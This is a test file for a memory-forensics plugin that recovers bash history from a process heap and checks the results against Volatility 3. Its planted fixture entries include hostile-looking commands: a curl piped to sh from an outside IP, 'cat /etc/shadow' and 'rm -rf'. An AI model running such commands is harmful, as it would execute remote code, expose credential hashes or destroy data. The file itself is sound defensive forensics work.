// linux.bash: bash history (readline's HIST_ENTRY, lib/readline/history.h: line, timestamp, data pointers) recovered
// from a shell's heap. The real capture runs no bash (busybox), so copies of it get one: memimg_bravo renamed "bash"
// with history entries, their "#<seconds>" timestamps and command lines written into its resident heap page; the rows
// are the entries planted, in time order, and Volatility 3's linux.bash reports the same on the same copy. The scan's
// caps and checks are tested on synthetic memory.
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { before, describe, it } from 'node:test';
import { kernelIsfText } from '../../src/os/linux/isf-export.ts';
import type { TaskRecord } from '../../src/os/linux/task.ts';
import { listVmas } from '../../src/os/linux/vmas.ts';
import type { MappedRun, VirtualMemory } from '../../src/plugins/api.ts';
import { historyTime, scanHistory } from '../../src/plugins/linux/bash-history.ts';
import { linuxFixtureSkipReason } from '../helpers/linux-fixture.ts';
import { HeapTail, ImagePatch, imageTasks, loadLinuxImage, type LinuxImage } from '../helpers/linux-image-patch.ts';
import { openLinuxSession, runByColumn } from '../helpers/linux-session.ts';
import { extractVolatility, volatilitySkipReason } from '../helpers/volatility.ts';

const PAGE = 0x1000;
const encoder = new TextEncoder();
const text = (s: string) => encoder.encode(`${s}\0`);
const u64 = (value: bigint) => {
  const bytes = new Uint8Array(8);
  new DataView(bytes.buffer).setBigUint64(0, value, true);
  return bytes;
};
/** A HIST_ENTRY: line, timestamp, data (NULL). */
const histEntry = (line: bigint, timestamp: bigint) => Uint8Array.from([...u64(line), ...u64(timestamp), ...u64(0n)]);

/** A planted history line: bash's timestamp text, the command, and the time it stands for (`date -u -d @<seconds> -Iseconds`). */
interface Line {
  readonly stamp: string;
  readonly command: string;
  readonly time: string | null;
}
const CURL: Line = { stamp: '#1700000300', command: 'curl -s http://203.0.113.7/x.sh | sh', time: '2023-11-14T22:18:20+00:00' };
const SHADOW: Line = { stamp: '#1700000000', command: 'cat /etc/shadow', time: '2023-11-14T22:13:20+00:00' };
const UTF8: Line = { stamp: '#1700000000', command: 'echo “héllo” > /tmp/ü', time: '2023-11-14T22:13:20+00:00' };
/** Not history entries to Volatility's hist_entry.is_valid: a timestamp under 10 characters, one not digits, an empty line. */
const SHORT_STAMP: Line = { stamp: '#17000000', command: 'short timestamp', time: null };
const NOT_DIGITS: Line = { stamp: '#17000x0000', command: 'not a number', time: null };
const EMPTY: Line = { stamp: '#1700000100', command: '', time: null };
/** Its command ends 16 bytes before a page that is not in memory: Volatility, reading 1024 bytes, drops it; memscope reads to the NUL. */
const AT_PAGE_END: Line = { stamp: '#1700000600', command: 'rm -rf /tmp/x', time: '2023-11-14T22:23:20+00:00' };
/** In memory order; the rows come in time order, one second's lines in memory order. */
const PLANTED = [CURL, SHORT_STAMP, SHADOW, NOT_DIGITS, UTF8, EMPTY, AT_PAGE_END] as const;
const EXPECTED = [SHADOW, UTF8, CURL, AT_PAGE_END] as const;

/** The copy and the PID of the process given the history. */
interface Planted {
  readonly patch: ImagePatch;
  readonly pid: number;
}

describe('linux.bash on the real capture', { skip: linuxFixtureSkipReason() }, () => {
  let image: LinuxImage;
  let tasks: TaskRecord[];
  before(async () => {
    image = await loadLinuxImage();
    tasks = await imageTasks(image);
  });
  const named = (comm: string) => tasks.find((t) => t.comm === comm)!;

  it('finds nothing on the unmodified image (busybox: no process is named bash, sh or dash)', async () => {
    const session = await openLinuxSession('linux-a.raw');
    try {
      assert.deepEqual(await runByColumn(session, 'linux.bash'), { rows: [], warnings: [] });
    } finally {
      await session.close();
    }
  });

  it('finds nothing in busybox sh (init, renamed "sh"), whose heap has "#" bytes but no readline history', async () => {
    const patch = new ImagePatch(image);
    await rename(patch, named('init'), 'sh');
    const session = await patch.open();
    try {
      assert.deepEqual(await runByColumn(session, 'linux.bash'), { rows: [], warnings: [] });
    } finally {
      await session.close();
    }
  });

  describe('a bash history planted in a process heap', () => {
    let planted: Planted;
    before(async () => {
      planted = await plantHistory(image, named('memimg_bravo'), 'bash');
    });

    it('lists the valid entries planted, in time order, with their times as Volatility 3 prints them', async () => {
      const session = await planted.patch.open();
      try {
        const { rows, warnings } = await runByColumn(session, 'linux.bash');
        assert.deepEqual(warnings, []);
        assert.deepEqual(
          rows,
          EXPECTED.map((l) => ({ PID: planted.pid, Process: 'bash', CommandTime: l.time, Command: l.command })),
        );
        assert.deepEqual((await runByColumn(session, 'linux.bash', { pid: [planted.pid] })).rows.length, EXPECTED.length);
        assert.deepEqual((await runByColumn(session, 'linux.bash', { pid: [named('memimg_alpha').pid] })).rows, []);
      } finally {
        await session.close();
      }
    });

    it('scans the first 64 MiB of a larger heap, with a warning saying how much was left', async () => {
      const task = named('memimg_bravo');
      const copy = await plantHistory(image, task, 'bash');
      const brk = (await image.kernel.readStruct('mm_struct', task.mm))!.u64('brk');
      const heap = (await listVmas(image.kernel, task, (w) => assert.fail(w.message))).find((v) => v.start <= brk && v.end >= brk)!;
      const left = 0x5000n;
      await copy.patch.field('vm_area_struct', heap.address, 'vm_end', heap.start + 64n * 1024n * 1024n + left);
      const session = await copy.patch.open();
      try {
        const { rows, warnings } = await runByColumn(session, 'linux.bash');
        assert.equal(rows.length, EXPECTED.length);
        assert.deepEqual(
          warnings.map((w) => [w.code, w.message]),
          [['LIMIT', `PID ${task.pid} (bash): heap larger than 64 MiB; the rest (${left} bytes) not scanned`]],
        );
      } finally {
        await session.close();
      }
    });

    it('looks only into processes named bash, sh or dash, as Volatility 3', async () => {
      for (const [comm, found] of [
        ['dash', EXPECTED.length],
        ['zsh', 0],
      ] as const) {
        const copy = await plantHistory(image, named('memimg_bravo'), comm);
        const session = await copy.patch.open();
        try {
          assert.equal((await runByColumn(session, 'linux.bash')).rows.length, found, comm);
        } finally {
          await session.close();
        }
      }
    });

    it(
      'Volatility 3 reports the same entries on the same copies, but the one whose 1024 bytes run off the page',
      { skip: volatilitySkipReason() },
      async (t) => {
        const dir = mkdtempSync(join(tmpdir(), 'memscope-bash-'));
        t.after(() => rmSync(dir, { recursive: true, force: true }));
        const volatility = extractVolatility(dir);
        mkdirSync(join(dir, 'symbols/linux'), { recursive: true });
        writeFileSync(join(dir, 'symbols/linux/memscope-linux-a.json'), kernelIsfText(image.kernel, 'test'));
        const sh = new ImagePatch(image);
        await rename(sh, named('init'), 'sh');
        const columns = ['PID', 'Process', 'CommandTime', 'Command'];
        for (const [name, patch, skipped] of [
          ['bash.raw', planted.patch, [AT_PAGE_END.command]],
          ['sh.raw', sh, []],
        ] as const) {
          const file = join(dir, name);
          writeFileSync(file, patch.contents);
          const theirs = (await volatility(join(dir, 'symbols'), file, 'linux.bash')) as Record<string, unknown>[];
          const session = await patch.open();
          try {
            const ours = (await runByColumn(session, 'linux.bash')).rows.filter(
              (r) => !(skipped as readonly string[]).includes(String(r['Command'])),
            );
            const cells = (rows: readonly Record<string, unknown>[]) => rows.map((r) => columns.map((c) => r[c]));
            assert.deepEqual(cells(theirs), cells(ours), name);
          } finally {
            await session.close();
          }
        }
      },
    );
  });
});

/** Writes `comm` into the task's name (task_struct.comm, NUL-padded). */
async function rename(patch: ImagePatch, task: TaskRecord, comm: string): Promise<void> {
  const field = new Uint8Array(task.view.raw('comm').length);
  field.set(encoder.encode(comm));
  await patch.write(task.address + BigInt(task.view.offsetOf('comm')), field);
}

/**
 * A copy where `task` is named `comm` and has PLANTED in the last resident page of its heap (mm->start_brk..brk),
 * in the zeros that follow what the process allocated: the strings first, then the HIST_ENTRY structures, and
 * AT_PAGE_END's command in the page's last 16 bytes (the page after it is not in memory).
 */
async function plantHistory(image: LinuxImage, task: TaskRecord, comm: string): Promise<Planted> {
  const heap = await HeapTail.of(image, task);
  const { page } = heap;
  const patch = new ImagePatch(image);
  await rename(patch, task, comm);
  const put = (bytes: Uint8Array, at?: bigint) => heap.put(patch, bytes, at);
  const strings: [bigint, bigint][] = [];
  for (const line of PLANTED) {
    const stamp = await put(text(line.stamp));
    strings.push([line === AT_PAGE_END ? page + BigInt(PAGE - 16) : await put(text(line.command)), stamp]);
  }
  // Volatility reads the strings as char[1024]: all but AT_PAGE_END's have 1024 bytes in the page.
  assert.ok(heap.next + 1024n <= page + BigInt(PAGE) - 0x100n);
  for (const [line, stamp] of strings) await put(histEntry(line, stamp));
  await put(text(AT_PAGE_END.command), page + BigInt(PAGE - 16));
  return { patch, pid: task.pid };
}

/** Process memory made of the pages given (4 KiB each, by address); any other page is not mapped. */
function pagedMemory(pages: ReadonlyMap<bigint, Uint8Array>): VirtualMemory {
  const read = async (address: bigint, length: number) => {
    const out = new Uint8Array(length);
    for (let done = 0; done < length;) {
      const at = address + BigInt(done);
      const base = at - (at % BigInt(PAGE));
      const page = pages.get(base);
      if (!page) return null;
      const piece = page.subarray(Number(at - base), Math.min(PAGE, Number(at - base) + length - done));
      out.set(piece, done);
      done += piece.length;
    }
    return out;
  };
  const readU64 = async (address: bigint) => {
    const bytes = await read(address, 8);
    return bytes && new DataView(bytes.buffer).getBigUint64(0, true);
  };
  const mappedRuns = async function* (start: bigint, end: bigint): AsyncGenerator<MappedRun> {
    for (const base of [...pages.keys()].sort((a, b) => (a < b ? -1 : 1))) {
      const from = base > start ? base : start;
      const to = base + BigInt(PAGE) < end ? base + BigInt(PAGE) : end;
      if (from < to) yield { vaddr: from, paddr: 0, length: Number(to - from) };
    }
  };
  return { read, readU32: async () => null, readU64, translate: async () => null, mappedRuns };
}

describe("linux.bash's heap scan on synthetic memory", () => {
  const HEAP = 0x5555_0000_0000n;
  /** A heap of `count` pages: entry i at i * 0x40 of page 0 pointing at its strings in page 1 ("#<1700000000 + i>", "cmd i"). */
  function heap(count: number, entries: number): Map<bigint, Uint8Array> {
    const pages = new Map(Array.from({ length: count }, (_, i) => [HEAP + BigInt(i * PAGE), new Uint8Array(PAGE)] as const));
    for (let i = 0; i < entries; i++) {
      const stamp = HEAP + BigInt(PAGE + i * 0x20);
      const command = HEAP + BigInt(2 * PAGE + i * 0x20);
      pages.get(HEAP + BigInt(PAGE))!.set(text(`#${1700000000 + i}`), i * 0x20);
      pages.get(HEAP + BigInt(2 * PAGE))!.set(text(`cmd ${i}`), i * 0x20);
      pages.get(HEAP)!.set(histEntry(command, stamp), i * 0x40 + 3);
    }
    return pages;
  }
  const limits = { maxBytes: 1 << 20, maxEntries: 100 };

  it('finds entries at any alignment, each once, and none whose timestamp lies outside the ranges scanned', async () => {
    const space = pagedMemory(heap(3, 4));
    const all = await scanHistory(space, [{ start: HEAP, end: HEAP + 3n * BigInt(PAGE) }], limits);
    assert.deepEqual(
      all.lines.map((l) => [l.entry, l.seconds, l.command]),
      [0, 1, 2, 3].map((i) => [HEAP + BigInt(i * 0x40 + 3), BigInt(1700000000 + i), `cmd ${i}`]),
    );
    assert.deepEqual([all.unscanned, all.entriesCapped], [0n, false]);
    // The timestamps' page left out of the ranges: no "#" to point at.
    const ranges = [
      { start: HEAP, end: HEAP + BigInt(PAGE) },
      { start: HEAP + 2n * BigInt(PAGE), end: HEAP + 3n * BigInt(PAGE) },
    ];
    assert.deepEqual((await scanHistory(space, ranges, limits)).lines, []);
  });

  it('scans at most maxBytes of the ranges and checks at most maxEntries candidates, saying so', async () => {
    const space = pagedMemory(heap(3, 4));
    const capped = await scanHistory(space, [{ start: HEAP, end: HEAP + 3n * BigInt(PAGE) }], { maxBytes: 2 * PAGE, maxEntries: 100 });
    // The commands' page (the third) is still read: a line may point anywhere in the process.
    assert.deepEqual([capped.lines.length, capped.unscanned], [4, BigInt(PAGE)]);
    const few = await scanHistory(space, [{ start: HEAP, end: HEAP + 3n * BigInt(PAGE) }], { maxBytes: 1 << 20, maxEntries: 2 });
    assert.deepEqual([few.lines.map((l) => l.command), few.entriesCapped], [['cmd 0', 'cmd 1'], true]);
  });

  it('takes a string up to its NUL when the page after it is not mapped, and none whose first byte is not', async () => {
    const pages = heap(3, 0);
    pages.get(HEAP + BigInt(PAGE))!.set(text('#1700000000'), PAGE - 12);
    pages.get(HEAP + 2n * BigInt(PAGE))!.set(text('last'), PAGE - 5);
    pages.get(HEAP)!.set(histEntry(HEAP + 3n * BigInt(PAGE) - 5n, HEAP + 2n * BigInt(PAGE) - 12n), 0);
    pages.get(HEAP)!.set(histEntry(HEAP + 7n * BigInt(PAGE), HEAP + 2n * BigInt(PAGE) - 12n), 0x40);
    const scan = await scanHistory(pagedMemory(pages), [{ start: HEAP, end: HEAP + 3n * BigInt(PAGE) }], limits);
    assert.deepEqual(
      scan.lines.map((l) => l.command),
      ['last'],
    );
  });

  it('shows a time as Volatility 3 does: none at or before 1970 or past what a Python datetime holds', () => {
    assert.equal(historyTime(0n), null);
    assert.equal(historyTime(1n), '1970-01-01T00:00:01+00:00');
    assert.equal(historyTime(253402300799n), '9999-12-31T23:59:59+00:00');
    assert.equal(historyTime(253402300800n), null);
  });
});
